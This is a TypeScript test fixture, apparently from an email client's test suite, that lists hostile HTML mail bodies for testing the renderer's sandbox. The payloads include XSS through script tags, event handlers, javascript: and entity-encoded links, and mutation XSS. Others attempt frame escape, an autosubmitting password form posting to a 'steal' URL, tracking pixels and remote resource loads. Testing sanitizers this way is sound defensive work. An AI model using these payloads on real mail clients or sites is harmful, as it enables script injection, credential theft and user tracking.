import { MARK, type HostileMailSpec } from './hostile-types';

/**
 * HTML that tries to run script, leave the frame, submit, embed or phone home through markup (not CSS).
 * `r(name)` is a URL on the test's remote listener: any request for it is seen.
 */
export function hostileHtmlMails(r: (name: string) => string): HostileMailSpec[] {
  return [
    { title: 'script tag', html: `<p>Hello</p><script>${MARK};alert('script')</script>` },
    {
      title: 'event handlers',
      html: `<img src="${r('onerror.png')}" onerror="${MARK}"><body onload="${MARK}"><div onmouseover="${MARK}">hover</div>`,
    },
    {
      title: 'javascript links',
      html: `<a href="javascript:${MARK}">Click me</a> <a href="JaVaScRiPt:alert(1)">and me</a> <a href="data:text/html,<script>${MARK}</script>">data</a>`,
    },
    {
      title: 'iframe',
      html: `<iframe src="${r('frame.html')}"></iframe><iframe srcdoc="<script>${MARK}</script>"></iframe>`,
    },
    {
      title: 'object and embed',
      html: `<object data="${r('object.swf')}"></object><embed src="${r('embed.swf')}"><applet code="x"></applet>`,
    },
    {
      title: 'autosubmit form',
      html: `<form action="${r('steal')}" method="post"><input name="password" autofocus onfocus="this.form.submit()"><button>Sign in</button></form>`,
    },
    {
      title: 'base href',
      html: `<base href="${r('')}"><a href="relative">relative link</a><img src="pixel-relative.png">`,
    },
    {
      title: 'meta refresh',
      html: `<meta http-equiv="refresh" content="0;url=${r('refresh')}"><p>You are being redirected</p>`,
    },
    { title: 'svg onload', html: `<svg onload="${MARK}"><script>${MARK}</script><circle r="4"/></svg>` },
    {
      title: 'style overlay and import',
      html: `<style>@import url(${r('import.css')}); .overlay{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}</style><div class="overlay">Overlay</div><p style="position:absolute;top:-500px">escaped</p>`,
    },
    {
      title: 'CSS backgrounds',
      html: `<div style="background:url(${r('css-bg.png')});height:20px">bg</div><table background="${r('table-bg.png')}"><tr><td style="background-image:url('${r('cell-bg.png')}')">cell</td></tr></table>`,
    },
    { title: 'img srcset', html: `<img srcset="${r('srcset-1x.png')} 1x, ${r('srcset-2x.png')} 2x" alt="srcset">` },
    { title: 'stylesheet link', html: `<link rel="stylesheet" href="${r('sheet.css')}"><p>Styled</p>` },
    { title: 'video poster', html: `<video poster="${r('poster.jpg')}" src="${r('video.mp4')}" autoplay></video>` },
    {
      title: 'tracking pixel',
      html: `<p>Our newsletter</p><img src="${r('pixel.gif?id=42')}" width="1" height="1" alt=""><img src="${r('logo.png')}" alt="Logo">`,
    },
    {
      title: 'top navigation',
      html: `<a href="#" onclick="top.location='${r('nav')}'">x</a><script>top.location='${r('nav')}'</script><img src=x onerror="top.location='${r('nav')}'">`,
    },
    {
      title: 'split script tag',
      html: `<scr<script>ipt>${MARK}</scr</script>ipt><SCRIPT SRC="${r('x.js')}"></SCRIPT>`,
    },
    {
      title: 'mutation XSS through math and style',
      html: `<math><mtext><table><mglyph><style><img src=x onerror="${MARK}">`,
    },
    {
      title: 'noscript attribute breakout',
      html: `<noscript><p title="</noscript><img src=x onerror=${MARK}>"></noscript>`,
    },
    { title: 'details ontoggle', html: `<details open ontoggle="${MARK}"><summary>s</summary>d</details>` },
    { title: 'svg animate', html: `<svg><animate onbegin="${MARK}" attributeName="x" dur="1s"/></svg>` },
    {
      title: 'marquee and input autofocus',
      html: `<marquee onstart="${MARK}">m</marquee><input autofocus onfocus="${MARK}">`,
    },
    {
      title: 'entity-encoded javascript link',
      html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${MARK}">enc</a><a href="java&#x09;script:alert(1)">tab</a><a href=" javascript:alert(1)">space</a>`,
    },
    {
      title: 'iframe javascript src',
      html: `<iframe src="javascript:${MARK}"></iframe><frameset onload="${MARK}"></frameset>`,
    },
    { title: 'base target top', html: `<base target="_top"><a href="${r('base-target')}">link</a>` },
    {
      title: 'link prefetch and preload',
      html: `<link rel="prefetch" href="${r('prefetch')}"><link rel="preload" as="image" href="${r('preload.png')}"><link rel="dns-prefetch" href="${r('')}">`,
    },
    {
      title: 'picture source',
      html: `<picture><source srcset="${r('source.webp')}" type="image/webp"><img src="${r('picture.png')}" alt="p"></picture>`,
    },
    {
      title: 'input type image',
      html: `<input type="image" src="${r('input.png')}"><button formaction="${r('fa')}">b</button>`,
    },
    {
      title: 'body background attribute',
      html: `<body background="${r('body-bg.png')}" bgcolor="#fff"><p>bg</p></body>`,
    },
    { title: 'anchor ping', html: `<a href="https://example.org/" ping="${r('ping')}">ping</a>` },
    {
      title: 'data svg image',
      html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${MARK}'><image href='${r('svg-image.png')}'/></svg>">`,
    },
    {
      title: 'audio bgsound track',
      html: `<audio src="${r('a.mp3')}" autoplay></audio><bgsound src="${r('b.mid')}"><video><track src="${r('t.vtt')}"></video>`,
    },
    {
      title: 'encoded remote image urls',
      html: `<img src="&#104;ttp://${r('ent.png').replace(/^http:\/\//, '')}"><img src=" ${r('space.png')}"><img src="${r('nl.png').replace('http', 'ht\ntp')}"><img src="${r('proto.png').replace(/^http:/, '')}">`,
    },
    {
      title: 'meta refresh javascript and set-cookie',
      html: `<meta http-equiv="refresh" content="0;url=javascript:${MARK}"><meta http-equiv="set-cookie" content="session=evil">`,
    },
    {
      title: 'template and xmp',
      html: `<template><script>${MARK}</script></template><xmp><script>${MARK}</script></xmp>`,
    },
    {
      title: 'area and image map',
      html: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m"><map name="m"><area href="javascript:${MARK}" shape="rect" coords="0,0,1,1"></map>`,
    },
    {
      title: 'dialog and popover',
      html: `<dialog open>Your session expired</dialog><div popover="manual" id="p">pop</div>`,
    },
  ];
}
